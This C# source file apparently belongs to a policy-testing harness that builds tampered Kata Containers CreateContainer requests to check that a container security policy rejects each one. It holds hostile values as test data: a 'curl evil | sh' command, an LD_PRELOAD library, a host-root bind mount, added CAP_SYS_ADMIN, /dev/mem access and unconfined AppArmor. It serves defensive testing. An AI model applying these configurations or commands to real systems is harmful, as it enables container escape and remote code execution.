using System.Text.Json.Nodes;
using static Parma.Policy.Simulation.Attacks.RequestFields;

namespace Parma.Policy.Simulation.Attacks;

/// <summary>CreateContainer with one field of the OCI spec, the process, the annotations or the storages changed.</summary>
internal static class ContainerAttacks
{
    public static IEnumerable<HostAttack> All(AttackContext c)
    {
        var app = c.IndexFor("CreateContainerRequest", c.App);
        var pause = c.IndexFor("CreateContainerRequest", c.Pause);
        var appId = c.Host.ContainerId(c.App);
        var attacks = new List<IEnumerable<HostAttack>>
        {
            // Identity and state.
            c.Change(app, "container created with the id of an existing container", "create.container_id: container_id", r =>
            {
                r["container_id"] = c.Host.ContainerId(c.Pause);
                Linux(r)["CgroupsPath"] = Linux(r)["CgroupsPath"]!.GetValue<string>().Replace(appId, c.Host.ContainerId(c.Pause), StringComparison.Ordinal);
            }),
            c.Change(app, "second container for an already bound policy container", "create.bound: container_id", r => Rename(r, appId, new string('d', 64)), AttackContext.After(app)),
            c.Change(app, "container type annotation removed", "create.container_type: OCI.Annotations[io.kubernetes.cri.container-type]", r => Annotations(r).Remove("io.kubernetes.cri.container-type")),
            c.Change(app, "container type annotation changed", "create.", r => Annotations(r)["io.kubernetes.cri.container-type"] = "sandbox"),
            c.Change(app, "image name annotation removed", "create.image: OCI.Annotations[io.kubernetes.cri.image-name]", r => Annotations(r).Remove("io.kubernetes.cri.image-name")),
            c.Change(app, "image name annotation changed", "create.", r => Annotations(r)["io.kubernetes.cri.image-name"] = "registry.example/evil:latest"),
            c.Change(app, "container name annotation naming no policy container", "create.container_name: OCI.Annotations[io.kubernetes.cri.container-name]", r => Annotations(r)["io.kubernetes.cri.container-name"] = "intruder"),
            c.Change(app, "annotation added", "create.annotations: OCI.Annotations[io.katacontainers.config.hypervisor.kernel_params]",
                r => Annotations(r)["io.katacontainers.config.hypervisor.kernel_params"] = "init=/bin/sh"),
            c.Change(app, "OCI version changed", "create.oci_version: OCI.Version", r => OciSpec(r)["Version"] = "1.0.0-evil"),
            c.Change(app, "container with the other PID namespace choice", "create.sandbox_pidns: sandbox_pidns", r => r["sandbox_pidns"] = !r["sandbox_pidns"]!.GetValue<bool>()),

            // What Kubernetes and Kata never send.
            c.Change(app, "OCI hooks as a non-empty list", "create.hooks: OCI.Hooks",
                r => OciSpec(r)["Hooks"] = new JsonObject { ["Prestart"] = new JsonArray(new JsonObject { ["Path"] = "/bin/sh", ["Args"] = new JsonArray("sh", "-c", "id"), ["Env"] = new JsonArray(), ["Timeout"] = 0 }) }),
            c.Variant(app, "OCI hooks as empty lists", r => OciSpec(r)["Hooks"] = new JsonObject { ["Prestart"] = new JsonArray(), ["Poststart"] = new JsonArray() }),
            c.Change(app, "Linux settings left out (no namespaces, masked paths or cgroup)", "create.cgroups_path: OCI.Linux.CgroupsPath", r => OciSpec(r)["Linux"] = null),
            c.Change(app, "process left out", "create.", r => OciSpec(r)["Process"] = null),
            c.Change(app, "Linux seccomp profile set", "create.seccomp: OCI.Linux.Seccomp", r => Linux(r)["Seccomp"] = new JsonObject { ["DefaultAction"] = "SCMP_ACT_ALLOW" }),
            c.Change(app, "devices added", "create.not_empty: devices", r => r["devices"] = new JsonArray(new JsonObject { ["id"] = "0:0", ["type_"] = "blk", ["vm_path"] = "/dev/vda", ["container_path"] = "/dev/host" })),
            c.Change(app, "shared mounts added", "create.not_empty: shared_mounts", r => r["shared_mounts"] = new JsonArray(new JsonObject { ["name"] = "x", ["src_ctr"] = "a", ["src_path"] = "/", ["dst_ctr"] = "b", ["dst_path"] = "/host" })),
            c.Change(app, "Linux devices added", "create.not_empty: OCI.Linux.Devices", r => Linux(r)["Devices"] = new JsonArray(new JsonObject { ["Path"] = "/dev/mem", ["Type"] = "c", ["Major"] = 1, ["Minor"] = 1 })),
            c.Change(app, "UID mappings added", "create.not_empty: OCI.Linux.UIDMappings", r => Linux(r)["UIDMappings"] = new JsonArray(new JsonObject { ["HostID"] = 0, ["ContainerID"] = 0, ["Size"] = 1 })),
            c.Change(app, "GID mappings added", "create.not_empty: OCI.Linux.GIDMappings", r => Linux(r)["GIDMappings"] = new JsonArray(new JsonObject { ["HostID"] = 0, ["ContainerID"] = 0, ["Size"] = 1 })),
            c.Change(app, "Solaris settings", "create.not_set: OCI.Solaris", r => OciSpec(r)["Solaris"] = new JsonObject { ["dummy"] = "x" }),
            c.Change(app, "Windows settings", "create.not_set: OCI.Windows", r => OciSpec(r)["Windows"] = new JsonObject { ["dummy"] = "x" }),
            c.Change(app, "Intel RDT settings", "create.not_set: OCI.Linux.IntelRdt", r => Linux(r)["IntelRdt"] = new JsonObject { ["L3CacheSchema"] = "L3:0=1" }),
            c.Change(app, "user given by name for the guest to resolve", "create.not_set: string_user", r => r["string_user"] = new JsonObject { ["uid"] = "root", ["gid"] = "root", ["additionalGids"] = new JsonArray() }),
            c.Change(app, "rootfs propagation shared with the guest", "create.not_set: OCI.Linux.RootfsPropagation", r => Linux(r)["RootfsPropagation"] = "rshared"),
            c.Change(app, "SELinux mount label", "create.not_set: OCI.Linux.MountLabel", r => Linux(r)["MountLabel"] = "system_u:object_r:container_file_t:s0"),
            c.Change(app, "SELinux process label", "create.not_set: OCI.Process.SelinuxLabel", r => Process(r)["SelinuxLabel"] = "system_u:system_r:spc_t:s0"),
            c.Change(app, "user name", "create.not_set: OCI.Process.User.Username", r => Process(r)["User"]!["Username"] = "root"),
            c.Change(app, "device cgroup rule that allows", "create.device_cgroup: OCI.Linux.Resources.Devices[0]",
                r => Linux(r)["Resources"]!["Devices"] = new JsonArray(new JsonObject { ["Allow"] = true, ["Type"] = "c", ["Major"] = 1, ["Minor"] = 1, ["Access"] = "rwm" })),
            c.Variant(pause, "device cgroup rule that only denies", r => Linux(r)["Resources"]!["Devices"] = new JsonArray(new JsonObject { ["Allow"] = false, ["Type"] = "a", ["Major"] = -1, ["Minor"] = -1, ["Access"] = "rwm" })),
            c.Change(app, "resource limits raised", "create.rlimits: OCI.Process.Rlimits", r => Process(r)["Rlimits"] = new JsonArray(Rlimit("RLIMIT_NOFILE", 1048576, 1048576))),
            c.Change(app, "core dumps allowed", "create.rlimits: OCI.Process.Rlimits", r => Process(r)["Rlimits"] = new JsonArray(Rlimit("RLIMIT_CORE", ulong.MaxValue, ulong.MaxValue))),
            c.Change(app, "resource limits with one limit raised", "create.rlimits: OCI.Process.Rlimits", r => RaiseLimits(Process(r))),
            c.Change(app, "resource limit listed twice", "create.rlimits: OCI.Process.Rlimits", r =>
            {
                var limits = Process(r)["Rlimits"]!.AsArray();
                limits.Add(limits.Count > 0 ? limits[0]!.DeepClone() : Rlimit("RLIMIT_NOFILE", 1024, 1024));
                if (limits.Count == 1)
                {
                    limits.Add(limits[0]!.DeepClone());
                }
            }),
            c.Change(app, "cgroups path of another container", "create.cgroups_path: OCI.Linux.CgroupsPath",
                r => Linux(r)["CgroupsPath"] = Linux(r)["CgroupsPath"]!.GetValue<string>().Replace(appId, c.Host.ContainerId(c.Pause), StringComparison.Ordinal)),
            c.Change(app, "cgroups path at the root", "create.cgroups_path: OCI.Linux.CgroupsPath", r => Linux(r)["CgroupsPath"] = "/"),
            c.Change(app, "hostname of another pod", "create.hostname: OCI.Hostname", r => OciSpec(r)["Hostname"] = "other-pod"),
            c.Change(pause, "sandbox hostname changed", "create.hostname: OCI.Hostname", r => OciSpec(r)["Hostname"] = "other-pod"),
            c.Change(app, "environment variable with an allowed name set twice", "create.env: OCI.Process.Env[KUBERNETES_SERVICE_HOST]",
                r => Env(Process(r)).Add("KUBERNETES_SERVICE_HOST=203.0.113.9")),

            // The process.
            c.Change(app, "command changed", "create.args: OCI.Process.Args", r => Process(r)["Args"] = new JsonArray("/bin/sh", "-c", "curl evil | sh")),
            c.Change(app, "working directory changed", "create.cwd: OCI.Process.Cwd", r => Process(r)["Cwd"] = "/tmp"),
            c.Change(app, "environment variable added", "create.env: OCI.Process.Env[LD_PRELOAD]", r => Env(Process(r)).Add("LD_PRELOAD=/tmp/evil.so")),
            c.Change(app, "environment variable removed", "create.env: OCI.Process.Env[", r => Env(Process(r)).RemoveAt(0)),
            c.Change(app, "terminal flipped", "create.terminal: OCI.Process.Terminal", r => Process(r)["Terminal"] = !Process(r)["Terminal"]!.GetValue<bool>()),
            c.Change(app, "runs as root", "create.user: OCI.Process.User.UID", r => Process(r)["User"]!["UID"] = 0),
            c.Change(app, "runs in another group", "create.user: OCI.Process.User.GID", r => Process(r)["User"]!["GID"] = 4242),
            c.Change(app, "supplementary group added", "create.user: OCI.Process.User.AdditionalGids", r => Process(r)["User"]!["AdditionalGids"]!.AsArray().Add(4242)),
            c.Change(app, "no_new_privileges flipped", "create.no_new_privileges: OCI.Process.NoNewPrivileges",
                r => Process(r)["NoNewPrivileges"] = !Process(r)["NoNewPrivileges"]!.GetValue<bool>()),
            c.Change(app, "OOM killer disabled for the process", "create.oom_score_adj: OCI.Process.OOMScoreAdj", r => Process(r)["OOMScoreAdj"] = -1000),
            c.Change(pause, "sandbox given a container's OOM score", "create.oom_score_adj: OCI.Process.OOMScoreAdj", r => Process(r)["OOMScoreAdj"] = 1000),
            c.Change(app, "AppArmor profile unconfined", "create.apparmor: OCI.Process.ApparmorProfile", r => Process(r)["ApparmorProfile"] = "unconfined"),
            c.Change(app, "read-only root flipped", "create.root_readonly: OCI.Root.Readonly", r => OciSpec(r)["Root"]!["Readonly"] = !OciSpec(r)["Root"]!["Readonly"]!.GetValue<bool>()),
            c.Change(app, "sysctl added", "create.sysctls: OCI.Linux.Sysctl", r => Linux(r)["Sysctl"]!["kernel.core_pattern"] = "|/tmp/x"),
            c.Change(app, "namespace dropped", "create.namespaces: OCI.Linux.Namespaces", r => Linux(r)["Namespaces"]!.AsArray().RemoveAt(0)),
            c.Change(app, "namespace listed twice", "create.namespaces: OCI.Linux.Namespaces", r => Linux(r)["Namespaces"]!.AsArray().Add(Linux(r)["Namespaces"]![0]!.DeepClone())),
            c.Change(app, "existing namespace joined by path", "create.namespaces: OCI.Linux.Namespaces[0].Path", r => Linux(r)["Namespaces"]![0]!["Path"] = "/proc/1/ns/ipc"),
            c.Change(app, "masked path dropped", "create.masked_paths: OCI.Linux.MaskedPaths", r => Linux(r)["MaskedPaths"]!.AsArray().RemoveAt(0)),
            c.Change(app, "masked path replaced by a duplicate of another", "create.masked_paths: OCI.Linux.MaskedPaths", r =>
            {
                var paths = Linux(r)["MaskedPaths"]!.AsArray();
                paths[1] = paths[0]!.DeepClone();
            }),
            c.Change(app, "read-only path dropped", "create.readonly_paths: OCI.Linux.ReadonlyPaths", r => Linux(r)["ReadonlyPaths"]!.AsArray().RemoveAt(0)),
            c.Change(app, "read-only path replaced by a duplicate of another", "create.readonly_paths: OCI.Linux.ReadonlyPaths", r =>
            {
                var paths = Linux(r)["ReadonlyPaths"]!.AsArray();
                paths[1] = paths[0]!.DeepClone();
            }),
        };

        foreach (var set in new[] { "Bounding", "Effective", "Permitted", "Inheritable", "Ambient" })
        {
            attacks.Add(c.Change(app, $"capability added to the {set} set", $"create.capabilities: OCI.Process.Capabilities.{set}", r => Process(r)["Capabilities"]![set]!.AsArray().Add("CAP_SYS_ADMIN")));
        }

        // Ports that connect standard streams straight to the host: only where the stdio switches allow streams.
        if (!c.Switched("ReadStreamRequest"))
        {
            attacks.Add(c.Change(app, "standard output sent straight to the host", "create.stdio_ports: stdout_port", r => r["stdout_port"] = 1025));
        }
        else if (c.SecondApp is { } second)
        {
            attacks.Add(c.Variant(c.IndexFor("CreateContainerRequest", second), "standard output sent to the host, which the stdio switch allows", r => r["stdout_port"] = 1025));
        }

        if (!c.Switched("WriteStreamRequest"))
        {
            attacks.Add(c.Change(app, "standard input taken straight from the host", "create.stdio_ports: stdin_port", r => r["stdin_port"] = 1024));
        }

        if (c.Pod.HostnamePattern is not null)
        {
            attacks.Add(c.Change(pause, "sandbox hostname set to the pod's name instead of the one the pod chose", "create.hostname: OCI.Hostname", r => OciSpec(r)["Hostname"] = c.Host.Sandbox.PodName));
        }

        if (c.Copy(app) is var request && HasLayers(request))
        {
            attacks.Add(c.Change(app, "root left out", "create.", r => OciSpec(r)["Root"] = null));
        }

        attacks.Add(Mounts(c, app));
        attacks.Add(Storages(c, app));
        return attacks.SelectMany(a => a);
    }

    private static IEnumerable<HostAttack> Mounts(AttackContext c, int app)
    {
        foreach (var attack in c.Change(app, "host root bind-mounted", "create.mounts: OCI.Mounts[", r => RequestFields.Mounts(r).Add(new JsonObject
        {
            ["destination"] = "/host",
            ["options"] = new JsonArray("rbind", "rw"),
            ["source"] = "/",
            ["type_"] = "bind",
        })))
        {
            yield return attack;
        }

        foreach (var attack in c.Change(app, "mount dropped", "create.mounts: OCI.Mounts: mount at /proc required by the policy is missing", r => RequestFields.Mounts(r).RemoveAt(MountIndex(r, "/proc"))))
        {
            yield return attack;
        }

        foreach (var attack in c.Change(app, "mount listed twice", "create.mounts: OCI.Mounts: ", r => RequestFields.Mounts(r).Add(RequestFields.Mounts(r)[0]!.DeepClone())))
        {
            yield return attack;
        }

        foreach (var attack in c.Change(app, "mount replaced by a duplicate of another", "create.mounts: OCI.Mounts: mount at /proc required by the policy is missing", r =>
        {
            var mounts = RequestFields.Mounts(r);
            mounts[MountIndex(r, "/proc")] = mounts[MountIndex(r, "/sys")]!.DeepClone();
        }))
        {
            yield return attack;
        }

        foreach (var (field, value) in new (string, JsonNode)[] { ("options", new JsonArray("nosuid", "nodev", "rw")), ("source", "/"), ("type_", "bind") })
        {
            foreach (var attack in c.Change(app, $"mount with another {field}", "create.mounts: OCI.Mounts[", r => RequestFields.Mounts(r)[MountIndex(r, "/sys")]![field] = value.DeepClone()))
            {
                yield return attack;
            }
        }
    }

    private static IEnumerable<HostAttack> Storages(AttackContext c, int app)
    {
        if (app < 0)
        {
            yield break;
        }

        var request = c.Copy(app);
        var attacks = new List<IEnumerable<HostAttack>>();
        if (HasLayers(request))
        {
            var forged = new string('a', 64);
            attacks.Add(c.Change(app, "layer not in the policy", "create.layers: storages[", r => Layer(r)!["options"]![3] = $"io.katacontainers.fs-opt.root-hash={forged}"));
            attacks.Add(c.Change(app, "layer from another driver", "create.layers: storages[", r => Layer(r)!["driver"] = "local"));
            attacks.Add(c.Change(app, "layer injected", "create.layers: storages: ", r => RequestFields.Storages(r).Insert(0, Layer(r)!.DeepClone())));
            attacks.Add(c.Change(app, "layer with driver options", "create.storage_fields: storages[", r => Layer(r)!["driver_options"] = new JsonArray("x")));
            attacks.Add(c.Change(app, "layer shared", "create.storage_fields: storages[", r => Layer(r)!["shared"] = true));
            attacks.Add(c.Change(app, "overlay changing group ownership", "create.storage_fields: storages[", r => Overlay(r)!["fs_group"] = new JsonObject { ["group_id"] = 0, ["group_change_policy"] = 0 }));
            attacks.Add(c.Change(app, "container without its verified overlay", "create.overlay: storages: 0 overlay storages", r => RequestFields.Storages(r).Remove(Overlay(r))));
            attacks.Add(c.Change(app, "overlay given twice", "create.overlay: storages: 2 overlay storages", r => RequestFields.Storages(r).Add(Overlay(r)!.DeepClone())));
            attacks.Add(c.Change(app, "overlay from another driver", "create.overlay: storages[overlay].driver", r => Overlay(r)!["driver"] = "virtio-fs"));
            attacks.Add(c.Change(app, "overlay lower directories reordered or extended", "create.overlay: storages[overlay].options", r =>
            {
                var options = Overlay(r)!["options"]!.AsArray();
                var lowerdir = options[^1]!.GetValue<string>()["lowerdir=".Length..].Split(':');
                options[^1] = "lowerdir=" + string.Join(':', lowerdir.Length > 1 ? lowerdir.Reverse() : lowerdir.Append(lowerdir[0]));
            }));
            attacks.Add(c.Change(app, "overlay mounted away from the container root", "create.overlay: storages[overlay].mount_point", r => Overlay(r)!["mount_point"] = "/run/kata-containers/shared/containers/elsewhere/rootfs"));
            if (c.SecondApp is { } second)
            {
                var firstRoot = OciSpec(request)["Root"]!["Path"]!.GetValue<string>();
                var secondIndex = c.IndexFor("CreateContainerRequest", second);
                attacks.Add(c.Change(secondIndex, "container mounted on another container's root", "create.mount_point: storages[", r =>
                {
                    OciSpec(r)["Root"]!["Path"] = firstRoot;
                    Overlay(r)!["mount_point"] = firstRoot;
                }));
            }
        }
        else
        {
            attacks.Add(c.Change(app, "layer for a container whose policy does not verify layers", "create.layers: storages: layer storages are not allowed",
                r => RequestFields.Storages(r).Add(new JsonObject { ["driver"] = "blk", ["driver_options"] = new JsonArray(), ["fs_group"] = null, ["fstype"] = "tar", ["mount_point"] = "/run/kata-containers/sandbox/layers/x", ["options"] = new JsonArray("ro"), ["source"] = "/dev/vdb" })));
        }

        if (HasVolume(request))
        {
            // Each kind of volume the container has (a block disk, a memory volume, a directory), each field changed.
            var kinds = StoragesOf(request, t => t is not ("tar" or "fuse3.kata-overlay")).Select((s, i) => (Driver: s["driver"]!.GetValue<string>(), Index: i)).DistinctBy(v => v.Driver).ToList();
            foreach (var (driver, index) in kinds)
            {
                JsonObject V(JsonObject r) => StoragesOf(r, t => t is not ("tar" or "fuse3.kata-overlay")).ElementAt(index);
                var of = index == 0 ? string.Empty : $" ({driver})";
                attacks.Add(c.Change(app, $"volume from another source{of}", "create.volumes: storages[", r => V(r)["source"] = "/dev/vdb"));
                attacks.Add(c.Change(app, $"volume mounted elsewhere{of}", "create.volumes: storages[", r => V(r)["mount_point"] = "/run/kata-containers/shared/containers/elsewhere"));
                attacks.Add(c.Change(app, $"volume from another driver{of}", "create.volumes: storages[", r => V(r)["driver"] = V(r)["driver"]!.GetValue<string>() == "blk" ? "scsi" : "blk"));
                attacks.Add(c.Change(app, $"volume of another file system type{of}", "create.volumes: storages[", r => V(r)["fstype"] = V(r)["fstype"]!.GetValue<string>() == "ext4" ? "xfs" : "ext4"));
                attacks.Add(c.Change(app, $"volume with other options{of}", "create.volumes: storages[", r => V(r)["options"]!.AsArray().Add("exec")));
                attacks.Add(c.Change(app, $"volume with driver options{of}", "create.volumes: storages[", r => V(r)["driver_options"] = new JsonArray("encryption_key=none")));
                attacks.Add(c.Change(app, $"volume changing group ownership{of}", "create.volumes: storages[", r => V(r)["fs_group"] = new JsonObject { ["group_id"] = 0, ["group_change_policy"] = 0 }));
                attacks.Add(c.Change(app, $"volume shared or not, against the policy{of}", "create.volumes: storages[", r => V(r)["shared"] = V(r)["shared"]?.GetValue<bool>() != true));
                if (driver is not ("blk" or "scsi"))
                {
                    // A host disk with the memory volume's file system and options, named as Kata names block volumes.
                    attacks.Add(c.Change(app, $"host disk passed off as a volume{of}", "create.volumes: storages[", r =>
                    {
                        V(r)["driver"] = "blk";
                        V(r)["source"] = "03/00";
                        V(r)["mount_point"] = "/run/kata-containers/sandbox/storage/MDMvMDA=";
                    }));
                }
            }

            attacks.Add(c.Change(app, "volume missing", "create.volumes: storages: storage", r => RequestFields.Storages(r).Remove(Volume(r))));
            if (BlockVolume(request) is { } block && MountFrom(request, block) is not null)
            {
                // Another disk's mount point in the block-storage directory: not a storage of this request the guest protected.
                var other = block["mount_point"]!.GetValue<string>()[..(block["mount_point"]!.GetValue<string>().LastIndexOf('/') + 1)] + "MDQvMDA=";
                attacks.Add(c.Change(app, "container mount from a disk the request does not carry", "create.storage_protection: OCI.Mounts[", r => MountFrom(r, BlockVolume(r)!)!["source"] = other));
            }
            attacks.Add(c.Change(app, "volume given twice", "create.volumes: storages: ", r => RequestFields.Storages(r).Add(Volume(r)!.DeepClone())));
            if (StoragesOf(request, t => t is not ("tar" or "fuse3.kata-overlay")).Count() > 1)
            {
                attacks.Add(c.Change(app, "volume given twice instead of another", "create.volumes: storages: storage", r =>
                {
                    var volumes = StoragesOf(r, t => t is not ("tar" or "fuse3.kata-overlay")).ToList();
                    var storages = RequestFields.Storages(r);
                    storages[storages.IndexOf(volumes[1])] = volumes[0].DeepClone();
                }));
            }
        }

        foreach (var attack in attacks.SelectMany(a => a))
        {
            yield return attack;
        }
    }

    private static JsonObject? BlockVolume(JsonObject request) =>
        StoragesOf(request, t => t is not ("tar" or "fuse3.kata-overlay")).FirstOrDefault(s => s["driver"]?.GetValue<string>() is "blk" or "scsi");

    private static JsonObject? MountFrom(JsonObject request, JsonObject storage) =>
        RequestFields.Mounts(request).OfType<JsonObject>().FirstOrDefault(m => m["source"]?.GetValue<string>() == storage["mount_point"]!.GetValue<string>());

    /// <summary>Every resource limit the runtime sets, with its hard and soft limits raised (or one added if it sets none).</summary>
    private static void RaiseLimits(JsonObject process)
    {
        var limits = process["Rlimits"]!.AsArray();
        if (limits.Count == 0)
        {
            limits.Add(Rlimit("RLIMIT_NOFILE", 1048576, 1048576));
            return;
        }

        foreach (var limit in limits)
        {
            limit!["Hard"] = ulong.MaxValue;
            limit["Soft"] = ulong.MaxValue;
        }
    }

    /// <summary>The same container under a new id: the id, its cgroups path, its root and its overlay's mount point.</summary>
    private static void Rename(JsonObject request, string from, string to)
    {
        request["container_id"] = to;
        request["exec_id"] = to;
        Linux(request)["CgroupsPath"] = Linux(request)["CgroupsPath"]!.GetValue<string>().Replace(from, to, StringComparison.Ordinal);
        var root = OciSpec(request)["Root"]!["Path"]!.GetValue<string>().Replace(from, to, StringComparison.Ordinal);
        OciSpec(request)["Root"]!["Path"] = root;
        if (Overlay(request) is { } overlay)
        {
            overlay["mount_point"] = root;
        }
    }
}
